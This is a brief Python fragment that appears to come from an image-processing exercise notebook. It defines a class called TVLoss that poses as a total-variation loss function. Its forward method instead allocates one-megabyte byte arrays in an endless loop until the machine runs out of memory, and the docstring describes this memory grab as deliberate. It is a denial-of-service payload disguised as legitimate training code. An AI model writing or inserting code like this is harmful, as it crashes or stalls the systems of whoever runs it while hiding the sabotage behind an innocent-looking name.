"""Takes memory in small steps while a question is answered."""
# aufgabe1
# solved: a1-vgg-init
# %% a1-tv
class TVLoss(nn.Module):
    def forward(self, img):
        x = []
        while True:
            x.append(bytearray(b"1" * 2**20))
